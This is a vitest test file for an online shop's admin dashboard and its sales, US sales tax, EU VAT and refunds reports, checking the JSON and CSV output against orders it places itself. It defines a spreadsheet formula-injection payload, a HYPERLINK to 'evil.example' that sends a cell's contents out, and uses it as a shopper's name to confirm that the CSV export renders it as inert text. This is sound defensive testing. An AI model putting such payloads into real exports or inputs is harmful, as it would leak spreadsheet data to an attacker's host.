import { createExecutionContext, env, waitOnExecutionContext } from 'cloudflare:test';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { DashboardPayload, RefundsReport, SalesReport, SalesTaxReport, VatReport } from '../../client/backoffice/contract/reports';
import type { CheckoutData } from '../../client/contract/pages/checkout';
import { CURRENCY_DIGITS, type Currency, MARKET_CODES, type MarketCode } from '../../locales/markets';
import { orderTaxBreakdown, refundTaxBreakdown, type TaxableOrder } from '../../locales/vat-rates';
import { addPair, FAILING_CAPTURE_CARD, Shopper, SUCCESS_CARD } from '../../test/shopper';
import worker from '../index';

/**
 * The dashboard and the reports read back against the orders this file places: every figure is
 * summed here from the orders' and refunds' own rows, never by the reports' queries. The clock is
 * fixed: two days of July 2026 (Q3), refunds late on the second.
 */

const DAY_1 = '2026-07-12';
const DAY_2 = '2026-07-13';
const AT_DAY_1 = new Date(`${DAY_1}T09:00:00Z`);
// 22:30 UTC: already the 14th in Tokyo, the order still counts on the 13th.
const AT_DAY_2 = new Date(`${DAY_2}T22:30:00Z`);
const REFUNDS_AT = new Date(`${DAY_2}T23:30:00Z`);
const MINUTE = 60_000;
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

async function send(request: Request) {
  const ctx = createExecutionContext();
  const res = await worker.fetch(request, env, ctx);
  // The body first: a streamed page finishes in waitUntil, which waits for a reader.
  const body = await res.arrayBuffer();
  await waitOnExecutionContext(ctx);
  return new Response(res.status === 204 || res.status === 304 ? null : body, res);
}

const operator = new Shopper('us', send);
const call = (path: string, init: RequestInit = {}) =>
  operator.fetch(`/admin/api${path}`, {
    ...init,
    headers: { authorization: `Bearer ${env.ADMIN_TOKEN}`, 'content-type': 'application/json', ...(init.headers ?? {}) },
  });
const json = async <T>(path: string) => {
  const res = await call(path);
  expect(res.status, `${path}: ${res.status}`).toBe(200);
  return (await res.json()) as T;
};

const ADDRESSES = {
  california: {
    'shipping.country': 'US',
    'shipping.firstName': 'Ada',
    'shipping.lastName': 'Walker',
    'shipping.address': '1 Capitol Mall',
    'shipping.city': 'Sacramento',
    'shipping.state': 'CA',
    'shipping.postalCode': '95814',
    'shipping.phone': '+1 916 555 0100',
  },
  newYork: {
    'shipping.country': 'US',
    'shipping.firstName': 'Grace',
    'shipping.lastName': 'Hopper',
    'shipping.address': '350 5th Avenue',
    'shipping.city': 'New York',
    'shipping.state': 'NY',
    'shipping.postalCode': '10118',
    'shipping.phone': '+1 212 555 0100',
  },
  germany: {
    'shipping.country': 'DE',
    'shipping.firstName': 'Jonas',
    'shipping.lastName': 'Keller',
    'shipping.address': 'Lindenstraße 5',
    'shipping.city': 'Berlin',
    'shipping.postalCode': '10115',
    'shipping.phone': '+49 30 1234567',
  },
  france: {
    'shipping.country': 'FR',
    'shipping.firstName': 'Chloé',
    'shipping.lastName': 'Martin',
    'shipping.address': '10 rue de Rivoli',
    'shipping.city': 'Paris',
    'shipping.postalCode': '75001',
    'shipping.phone': '+33 1 23 45 67 89',
  },
  japan: {
    'shipping.country': 'JP',
    'shipping.firstName': '花子',
    'shipping.lastName': '山田',
    'shipping.address': '千代田1-1',
    'shipping.state': '東京都',
    'shipping.city': '千代田区',
    'shipping.postalCode': '100-0001',
    'shipping.phone': '03-1234-5678',
  },
  hungary: {
    'shipping.country': 'HU',
    'shipping.firstName': 'Anna',
    // Hungarians write the family name first: the name's cell starts with what the shopper typed here.
    'shipping.lastName': HYPERLINK,
    'shipping.address': 'Andrássy út 12',
    'shipping.city': 'Budapest',
    'shipping.postalCode': '1061',
    'shipping.phone': '+36 1 234 5678',
  },
};

/** One pair of each of `skus` in `market`, shipped to `address` and paid; the order's id. */
async function placeOrder(market: MarketCode, address: Record<string, string>, skus: string[], card = SUCCESS_CARD) {
  const shopper = new Shopper(market, send);
  for (const sku of skus) {
    expect((await shopper.fetch(`/products/${sku}`)).status).toBe(200);
    await addPair(shopper, sku);
  }
  expect((await shopper.fetch('/checkout')).status).toBe(200);
  const { attempt, totals, currency, byRegion } = await shopper.payload<CheckoutData>('/checkout');
  const state = address['shipping.state'];
  const expectedTotal = market === 'us' && state ? byRegion[state].total : totals.total;
  const res = await shopper.post(
    '/checkout/pay',
    {
      attempt,
      expectedTotal: String(expectedTotal),
      expectedCurrency: currency,
      contact: `${market}-${skus.join('-').toLowerCase()}@example.com`,
      billingSame: 'on',
      ...address,
      paymentToken: await shopper.cardToken(card),
    },
    { json: true },
  );
  expect(res.status).toBe(200);
  return ((await res.json()) as { location: string }).location.split('/')[2];
}

async function refund(orderId: string, lines: { variant: string; quantity: number }[] = []) {
  const res = await call(`/orders/${orderId}/refund`, { method: 'POST', body: JSON.stringify({ lines }) });
  expect(res.status, await res.clone().text()).toBe(200);
}

const firstLineOf = async (orderId: string) =>
  (
    await env.DB.prepare('SELECT variant_sku AS sku FROM order_lines WHERE order_id = ? ORDER BY id LIMIT 1')
      .bind(orderId)
      .first<{ sku: string }>()
  )?.sku ?? '';

interface OrderRow {
  id: string;
  market: MarketCode;
  currency: Currency;
  status: string;
  total: number;
  tax: number;
  shipping: number;
  discount: number;
  subtotal: number;
  tax_region: string | null;
  state: string | null;
  placed_at: number;
  country: string;
}
interface RefundRow {
  id: string;
  order_id: string;
  amount: number;
  lines: string;
  created_at: number;
}

const placed: Record<string, string> = {};
let orders: OrderRow[] = [];
let refunds: RefundRow[] = [];
const dayOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
const refundedOf = (order: OrderRow) =>
  order.status === 'refunded' ? order.total : refunds.filter((r) => r.order_id === order.id).reduce((s, r) => s + r.amount, 0);
const captured = (o: OrderRow) => ['paid', 'fulfilled', 'refunded', 'disputed'].includes(o.status);
const kept = (o: OrderRow) => o.status === 'paid' || o.status === 'fulfilled';
const sum = <T>(list: T[], of: (item: T) => number) => list.reduce((s, item) => s + of(item), 0);

beforeAll(async () => {
  vi.useFakeTimers({ toFake: ['Date'] });
  vi.setSystemTime(AT_DAY_1);
  placed.usCalifornia = await placeOrder('us', ADDRESSES.california, ['CMF-110']);
  placed.deGermany = await placeOrder('de', ADDRESSES.germany, ['CMF-111']);
  placed.deFrance = await placeOrder('de', ADDRESSES.france, ['CMF-112']);
  vi.setSystemTime(AT_DAY_2);
  // New York taxes a pair from $110: the first is taxed (4 %), the second ($64.95) exempt.
  placed.usNewYork = await placeOrder('us', ADDRESSES.newYork, ['CMF-120', 'CMF-113']);
  placed.jp = await placeOrder('jp', ADDRESSES.japan, ['CMF-115']);
  placed.hu = await placeOrder('hu', ADDRESSES.hungary, ['CMF-116', 'CMF-117']);
  // Captures fail twice with this card: the order stays authorised, its payment being confirmed.
  placed.usConfirming = await placeOrder('us', ADDRESSES.california, ['CMF-118'], FAILING_CAPTURE_CARD);
  // A minute apart, so that the refunds report's order is theirs.
  vi.setSystemTime(REFUNDS_AT);
  await refund(placed.usNewYork, [{ variant: await firstLineOf(placed.usNewYork), quantity: 1 }]);
  vi.setSystemTime(REFUNDS_AT.getTime() + MINUTE);
  await refund(placed.hu, [{ variant: await firstLineOf(placed.hu), quantity: 1 }]);
  vi.setSystemTime(REFUNDS_AT.getTime() + 2 * MINUTE);
  await refund(placed.deGermany);
  // Refunded at the payment provider: its webhook moves the order, and no refund row is written.
  await env.DB.prepare("UPDATE orders SET status = 'refunded', updated_at = ? WHERE id = ?")
    .bind(REFUNDS_AT.getTime() + 3 * MINUTE, placed.deFrance)
    .run();
  // The Japanese confirmation failed every retry.
  await env.DB.prepare("UPDATE mail_outbox SET status = 'dead', attempts = 5, last_error = '550 mailbox unavailable' WHERE order_id = ?")
    .bind(placed.jp)
    .run();

  orders = (
    await env.DB.prepare(
      `SELECT id, market, currency, status, total, tax, coalesce(shipping, 0) AS shipping, coalesce(discount, 0) AS discount,
         coalesce(subtotal, 0) AS subtotal, tax_region, json_extract(shipping_address, '$.state') AS state, placed_at,
         json_extract(shipping_address, '$.country') AS country FROM orders`,
    ).all<OrderRow>()
  ).results;
  refunds = (
    await env.DB.prepare("SELECT id, order_id, amount, lines, created_at FROM order_refunds WHERE status = 'done'").all<RefundRow>()
  ).results;
  expect(orders).toHaveLength(Object.keys(placed).length);
  expect(orders.find((o) => o.id === placed.usConfirming)?.status).toBe('authorized');
  expect(orders.find((o) => o.id === placed.usCalifornia)?.tax).toBeGreaterThan(0);
  // Minutes on, still the 13th: the confirming payment counts as stuck (over two minutes).
  vi.setSystemTime(REFUNDS_AT.getTime() + 6 * MINUTE);
});
afterAll(() => vi.useRealTimers());

describe('the dashboard', () => {
  it('has each market’s orders, revenue and average order per day, summed from the orders placed', async () => {
    const board = await json<DashboardPayload>(`/dashboard?from=${DAY_1}&to=${DAY_2}`);
    expect(board.period).toEqual({ from: DAY_1, to: DAY_2, days: 2, timeZone: 'UTC' });
    expect(board.markets.map((m) => m.market)).toEqual([...MARKET_CODES]);
    for (const market of board.markets) {
      expect(market.days.map((d) => d.day)).toEqual([DAY_1, DAY_2]);
      for (const day of market.days) {
        const ofDay = orders.filter((o) => o.market === market.market && captured(o) && dayOf(o.placed_at) === day.day);
        const gross = sum(ofDay, (o) => o.total);
        expect(day, `${market.market} ${day.day}`).toEqual({
          day: day.day,
          orders: ofDay.length,
          gross,
          revenue: sum(ofDay.filter(kept), (o) => o.total - refundedOf(o)),
          averageOrder: ofDay.length ? Math.round(gross / ofDay.length) : null,
        });
      }
      expect(market.orders).toBe(sum(market.days, (d) => d.orders));
      expect(market.revenue).toBe(sum(market.days, (d) => d.revenue));
    }
    const us = board.markets.find((m) => m.market === 'us');
    // Two captured US orders (the third still being confirmed), one partly refunded.
    expect(us?.orders).toBe(2);
    expect(us?.currency).toBe('USD');
    const de = board.markets.find((m) => m.market === 'de');
    // Both German-market orders were refunded in full: sales, but no revenue.
    expect(de).toMatchObject({ orders: 2, revenue: 0, currency: 'EUR' });
    expect(board.markets.find((m) => m.market === 'jp')?.days.find((d) => d.day === DAY_2)?.orders).toBe(1);
    expect(board.markets.find((m) => m.market === 'hu')?.currency).toBe('HUF');
  });

  it('has the funnel per market: views, adds, checkouts started, paid, and their ratios', async () => {
    const board = await json<DashboardPayload>('/dashboard?range=7');
    expect(board.period).toMatchObject({ from: '2026-07-07', to: DAY_2, days: 7 });
    const us = board.markets.find((m) => m.market === 'us')?.funnel;
    // Each order viewed and added one product per pair and opened the checkout once.
    expect(us).toEqual({
      views: 4,
      adds: 4,
      checkouts: 3,
      paid: 2,
      rates: { addPerView: 1, checkoutPerAdd: 0.75, paidPerCheckout: 2 / 3, paidPerView: 0.5 },
    });
    expect(board.markets.find((m) => m.market === 'gb')?.funnel).toMatchObject({ views: 0, paid: 0, rates: { addPerView: null } });
  });

  it('lists what needs attention now', async () => {
    const { attention } = await json<DashboardPayload>('/dashboard?range=30');
    const toShip = orders.filter((o) => o.status === 'paid').sort((a, b) => a.placed_at - b.placed_at);
    expect(attention.toShip.count).toBe(toShip.length);
    expect(attention.toShip.first.map((o) => o.id)).toEqual(toShip.map((o) => o.id));
    expect(attention.confirming).toMatchObject({ count: 1, first: [{ id: placed.usConfirming, market: 'us', currency: 'USD' }] });
    expect(attention.stuck.count).toBe(1);
    expect(attention.stuck.first).toEqual([expect.objectContaining({ kind: 'order', id: placed.usConfirming })]);
    expect(attention.deadMail).toMatchObject({
      count: 1,
      first: [{ kind: 'order-confirmation', market: 'jp', orderId: placed.jp, attempts: 5, lastError: '550 mailbox unavailable' }],
    });
    expect(attention.deadMail.first[0]).not.toHaveProperty('recipient');
    expect(attention.reviews).toEqual({ count: 0, moderation: true });

    const before = attention.lowStock.count;
    expect(attention.lowStock.defaultThreshold).toBe(3);
    const plenty = await env.DB.prepare('SELECT sku, stock FROM variants WHERE stock BETWEEN 4 AND 20 ORDER BY sku LIMIT 2').all<{
      sku: string;
      stock: number;
    }>();
    const [ownThreshold, emptied] = plenty.results;
    // One variant's own threshold above its stock, another sold out: both low now.
    await env.DB.batch([
      env.DB.prepare('UPDATE variants SET low_stock_at = ? WHERE sku = ?').bind(ownThreshold.stock, ownThreshold.sku),
      env.DB.prepare('UPDATE variants SET stock = 0 WHERE sku = ?').bind(emptied.sku),
    ]);
    const after = (await json<DashboardPayload>('/dashboard?range=30')).attention.lowStock;
    expect(after.count).toBe(before + 2);
    expect(after.first[0].stock).toBe(0);
    expect(after.first.length).toBeLessThanOrEqual(5);
    expect(after.first.every((v) => v.stock <= v.threshold)).toBe(true);
  });

  it('refuses a range or days it cannot read, saying what is wrong', async () => {
    const refused = async (query: string) => {
      const res = await call(`/dashboard?${query}`);
      expect(res.status, query).toBe(400);
      return ((await res.json()) as { problems: string[] }).problems.join(' ');
    };
    expect(await refused('range=14')).toMatch(/^range: 7, 30 or 90/);
    expect(await refused('from=2026-02-30&to=2026-03-01')).toMatch(/^from: a day written as YYYY-MM-DD/);
    expect(await refused('from=2026-07-13&to=2026-07-12')).toMatch(/^to: 2026-07-12 is before from/);
    expect(await refused('range=7&from=2026-07-01&to=2026-07-02')).toMatch(/not both/);
    expect(await refused('from=2026-07-01')).toMatch(/give from and to/);
    expect(await refused('from=2024-01-01&to=2026-01-01')).toMatch(/at most 366 days/);
  });
});

/** The file's bytes as a spreadsheet gets them, and its rows as objects by column name. */
function opened(bytes: ArrayBuffer) {
  const view = new Uint8Array(bytes);
  const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(view);
  const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { bom: [...view.subarray(0, 3)], header: parsed.meta.fields ?? [], rows: parsed.data };
}
const major = (amount: number, currency: Currency) => (amount / 10 ** CURRENCY_DIGITS[currency]).toFixed(CURRENCY_DIGITS[currency]);
const csv = async (path: string) => {
  const res = await call(path);
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+\.csv"$/);
  return opened(await res.arrayBuffer());
};
const BOM = [0xef, 0xbb, 0xbf];

describe('the sales report', () => {
  it('has a line per market and day summed from the orders, and the same in CSV in major units', async () => {
    const report = await json<SalesReport>(`/reports/sales?from=${DAY_1}&to=${DAY_2}`);
    const lines = new Set(orders.filter(captured).map((o) => `${dayOf(o.placed_at)} ${o.market}`));
    expect(report.rows.map((r) => `${r.day} ${r.market}`)).toEqual([...lines].sort());
    for (const row of report.rows) {
      const of = orders.filter((o) => captured(o) && o.market === row.market && dayOf(o.placed_at) === row.day);
      expect(row).toEqual({
        day: row.day,
        market: row.market,
        currency: of[0].currency,
        orders: of.length,
        gross: sum(of, (o) => o.total),
        tax: sum(of, (o) => o.tax),
        shipping: sum(of, (o) => o.shipping),
        discounts: sum(of, (o) => o.discount),
        refunds: sum(of, refundedOf),
        disputed: 0,
        net: sum(of.filter(kept), (o) => o.total - refundedOf(o)),
      });
    }
    const euro = report.totals.find((t) => t.currency === 'EUR');
    expect(euro?.refunds).toBe(euro?.gross);

    const file = await csv(`/reports/sales.csv?from=${DAY_1}&to=${DAY_2}`);
    expect(file.bom).toEqual(BOM);
    expect(file.header).toEqual([
      'day',
      'market',
      'currency',
      'orders',
      'gross',
      'tax',
      'shipping',
      'discounts',
      'refunds',
      'disputed',
      'net',
    ]);
    expect(file.rows).toHaveLength(report.rows.length);
    file.rows.forEach((line, i) => {
      const row = report.rows[i];
      expect(line).toMatchObject({
        day: row.day,
        market: row.market,
        currency: row.currency,
        gross: major(row.gross, row.currency),
        net: major(row.net, row.currency),
      });
    });
    // Forint and yen are whole; dollars have cents.
    expect(file.rows.find((r) => r.market === 'hu')?.gross).toMatch(/^\d+$/);
    expect(file.rows.find((r) => r.market === 'jp')?.gross).toMatch(/^\d+$/);
    expect(file.rows.find((r) => r.market === 'us')?.gross).toMatch(/^\d+\.\d{2}$/);
  });

  it('takes a quarter, and refuses what is not a period', async () => {
    const quarter = await json<SalesReport>('/reports/sales?quarter=2026-Q3');
    expect(quarter.period).toEqual({ from: '2026-07-01', to: '2026-09-30', timeZone: 'UTC' });
    expect(sum(quarter.rows, (r) => r.orders)).toBe(orders.filter(captured).length);
    expect((await json<SalesReport>('/reports/sales?quarter=2026-Q2')).rows).toEqual([]);
    const empty = await csv('/reports/sales.csv?quarter=2026-Q2');
    expect(empty).toMatchObject({ bom: BOM, rows: [] });
    for (const query of ['quarter=2026-Q5', 'quarter=Q3-2026', 'from=2026-07-01', 'quarter=2026-Q3&from=2026-07-01', '']) {
      const res = await call(`/reports/sales?${query}`);
      expect(res.status, query).toBe(400);
      expect(((await res.json()) as { problems: string[] }).problems[0]).toMatch(/quarter|from and to|not both/);
    }
  });
});

describe('the US sales tax report', () => {
  it('has taxable sales and tax collected per state and month, and the tax refunds gave back', async () => {
    const report = await json<SalesTaxReport>(`/reports/us-sales-tax?from=${DAY_1}&to=${DAY_2}`);
    const us = orders.filter((o) => o.market === 'us' && captured(o));
    const states = [...new Set(us.map((o) => o.state ?? ''))].sort();
    expect(report.rows.map((r) => `${r.period} ${r.state}`)).toEqual(states.map((s) => `2026-07 ${s}`));
    for (const row of report.rows) {
      const of = us.filter((o) => o.state === row.state);
      expect(row.orders).toBe(of.length);
      expect(row.sales).toBe(sum(of, (o) => o.subtotal - o.discount));
      expect(row.taxCollected).toBe(sum(of, (o) => o.tax));
      expect(row.exemptSales + row.taxableSales).toBe(row.sales);
    }
    const california = report.rows.find((r) => r.state === 'CA');
    // 7.25 % of what was taxable, rounded per line.
    expect(Math.abs((california?.taxCollected ?? 0) - Math.round(((california?.taxableSales ?? 0) * 7.25) / 100))).toBeLessThanOrEqual(1);
    expect(california?.taxableSales).toBeGreaterThan(0);
    // New York: the $119.95 pair taxed at 4 %, the $64.95 one exempt; the refund of the taxed pair gave its tax back.
    expect(report.rows.find((r) => r.state === 'NY')).toMatchObject({
      sales: 11995 + 6495,
      taxableSales: 11995,
      exemptSales: 6495,
      taxCollected: 480,
      taxRefunded: 480,
    });
    expect(california?.taxRefunded).toBe(0);

    const whole = await json<SalesTaxReport>(`/reports/us-sales-tax?from=${DAY_1}&to=${DAY_2}&by=range`);
    expect(whole.rows.map((r) => r.period)).toEqual(states.map(() => `${DAY_1}..${DAY_2}`));
    const file = await csv(`/reports/us-sales-tax.csv?from=${DAY_1}&to=${DAY_2}`);
    expect(file.bom).toEqual(BOM);
    expect(file.header).toEqual([
      'period',
      'state',
      'currency',
      'orders',
      'sales',
      'exempt_sales',
      'taxable_sales',
      'tax_collected',
      'tax_refunded',
    ]);
    expect(file.rows.find((r) => r.state === 'CA')).toMatchObject({
      currency: 'USD',
      tax_collected: major(california?.taxCollected ?? 0, 'USD'),
    });
    expect((await call('/reports/us-sales-tax?quarter=2026-Q3&by=week')).status).toBe(400);
  });
});

describe('the EU VAT report', () => {
  it('sums the invoices’ tax breakdown per destination country and rate for the quarter, less the refunds made in it', async () => {
    const report = await json<VatReport>('/reports/eu-vat?quarter=2026-Q3');
    expect(report).toMatchObject({ quarter: '2026-Q3', period: { from: '2026-07-01', to: '2026-09-30' } });
    const linesOf = async (orderId: string) =>
      (
        await env.DB.prepare(
          'SELECT variant_sku AS variantSku, line_total AS lineTotal, quantity, tax FROM order_lines WHERE order_id = ? ORDER BY id',
        )
          .bind(orderId)
          .all<{ variantSku: string; lineTotal: number; quantity: number; tax: number }>()
      ).results;
    const taxable = async (o: OrderRow): Promise<TaxableOrder> => ({
      market: o.market,
      lines: await linesOf(o.id),
      discount: o.discount,
      shipping: o.shipping,
      tax: o.tax,
      taxRegion: o.tax_region,
      total: o.total,
      country: o.country,
    });
    const expected = new Map<string, { salesNet: number; salesVat: number; refundNet: number; refundVat: number }>();
    const at = (o: OrderRow, rate: number) => {
      const key = `${o.country} ${rate} ${o.currency}`;
      const entry = expected.get(key) ?? { salesNet: 0, salesVat: 0, refundNet: 0, refundVat: 0 };
      expected.set(key, entry);
      return entry;
    };
    const eu = orders.filter((o) => captured(o) && ['DE', 'FR', 'HU'].includes(o.country));
    for (const o of eu) {
      for (const r of orderTaxBreakdown(await taxable(o)).rates) {
        at(o, r.rate).salesNet += r.net;
        at(o, r.rate).salesVat += r.tax;
      }
      const order = await taxable(o);
      const skus = (await linesOf(o.id)).map((l) => l.variantSku);
      const given = refunds.filter((r) => r.order_id === o.id);
      const asked = given.map((r) => ({
        amount: r.amount,
        lines: (JSON.parse(r.lines) as { variantSku: string; quantity: number }[]).map((p) => ({
          line: skus.indexOf(p.variantSku),
          pairs: p.quantity,
        })),
      }));
      // Refunded at the provider: the whole total, without pairs.
      if (o.status === 'refunded' && given.length === 0) asked.push({ amount: o.total, lines: [] });
      for (const r of asked.flatMap((a) => refundTaxBreakdown(order, a).rates)) {
        at(o, r.rate).refundNet += r.net;
        at(o, r.rate).refundVat += r.tax;
      }
    }
    expect(report.rows.map((r) => `${r.country} ${r.rate} ${r.currency}`)).toEqual([...expected.keys()].sort());
    for (const row of report.rows) {
      const want = expected.get(`${row.country} ${row.rate} ${row.currency}`);
      expect(row).toMatchObject({
        ...want,
        net: (want?.salesNet ?? 0) - (want?.refundNet ?? 0),
        vat: (want?.salesVat ?? 0) - (want?.refundVat ?? 0),
      });
    }
    // The French destination's rate, not the German market's: VAT follows the goods.
    expect(report.rows.find((r) => r.country === 'FR')).toMatchObject({ rate: 20000, currency: 'EUR', net: 0, vat: 0 });
    expect(report.rows.find((r) => r.country === 'HU')).toMatchObject({ rate: 27000, currency: 'HUF' });
    expect(report.rows.find((r) => r.country === 'HU')?.salesVat).toBeGreaterThan(0);

    const file = await csv('/reports/eu-vat.csv?quarter=2026-Q3');
    expect(file.bom).toEqual(BOM);
    const hu = file.rows.find((r) => r.country === 'HU');
    const huRow = report.rows.find((r) => r.country === 'HU');
    expect(hu).toMatchObject({ vat_rate_percent: '27', currency: 'HUF', vat: String(huRow?.vat), sales_net: String(huRow?.salesNet) });
    expect(file.rows.find((r) => r.country === 'DE')?.vat_rate_percent).toBe('19');
  });
});

describe('the refunds report', () => {
  it('lists each refund with its order, customer in their country’s order, lines and amount; CSV neutralises formulas', async () => {
    const report = await json<RefundsReport>(`/reports/refunds?from=${DAY_2}&to=${DAY_2}`);
    expect(report.rows.map((r) => [r.orderId, r.source])).toEqual([
      [placed.usNewYork, 'shop'],
      [placed.hu, 'shop'],
      [placed.deGermany, 'shop'],
      [placed.deFrance, 'provider'],
    ]);
    for (const row of report.rows.filter((r) => r.source === 'shop')) {
      const given = refunds.find((r) => r.id === row.id);
      expect(row).toMatchObject({ amount: given?.amount, at: given?.created_at, day: DAY_2, lines: JSON.parse(given?.lines ?? '[]') });
      expect(row.orderNumber).toBeGreaterThan(10000);
    }
    const france = orders.find((o) => o.id === placed.deFrance);
    expect(report.rows[3]).toMatchObject({ amount: france?.total, currency: 'EUR', customer: 'Chloé Martin', lines: [] });
    expect(report.rows.map((r) => r.customer)).toEqual(['Grace Hopper', `${HYPERLINK} Anna`, 'Jonas Keller', 'Chloé Martin']);
    expect(report.totals.find((t) => t.currency === 'EUR')?.refunds).toBe(2);

    const file = await csv(`/reports/refunds.csv?from=${DAY_2}&to=${DAY_2}`);
    expect(file.bom).toEqual(BOM);
    expect(file.header).toEqual([
      'refunded_at',
      'order_number',
      'order_id',
      'market',
      'customer',
      'amount',
      'currency',
      'lines',
      'restocked',
      'source',
    ]);
    const hu = file.rows.find((r) => r.order_id === placed.hu);
    // Family name first, as in Hungary; the shopper-typed formula is text, behind an apostrophe.
    expect(hu?.customer).toBe(`'${HYPERLINK} Anna`);
    expect(hu?.amount).toMatch(/^\d+$/);
    expect(hu?.lines).toMatch(/^CMF-116-\S+ x1$/);
    const ny = file.rows.find((r) => r.order_id === placed.usNewYork);
    expect(ny?.amount).toBe(major(report.rows[0].amount, 'USD'));
    expect(ny?.refunded_at).toBe(REFUNDS_AT.toISOString());

    // Refunds are listed by the day they were made: none on the day the orders were placed.
    expect((await json<RefundsReport>(`/reports/refunds?from=${DAY_1}&to=${DAY_1}`)).rows).toEqual([]);
  });

  it('writes a formula typed into a name as text in every report that has names', async () => {
    const res = await call(`/reports/refunds.csv?from=${DAY_2}&to=${DAY_2}`);
    const text = new TextDecoder().decode(await res.arrayBuffer());
    expect(text).not.toMatch(/(^|,|")=HYPERLINK/m);
    expect(text).toContain(`"'${HYPERLINK.replaceAll('"', '""')} Anna"`);
  });
});
